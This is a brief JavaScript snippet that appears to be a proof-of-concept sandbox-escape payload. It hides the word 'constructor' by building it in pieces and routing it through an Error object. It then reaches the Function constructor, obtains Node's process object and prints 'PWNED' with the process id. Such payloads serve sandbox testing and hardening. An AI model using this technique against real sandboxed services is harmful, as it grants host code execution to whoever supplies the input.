'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const part = { name: w };
const e = new Error('');
Object.assign(e, part);
console.log('PWNED', fn[`${e}`]('return process')().pid);
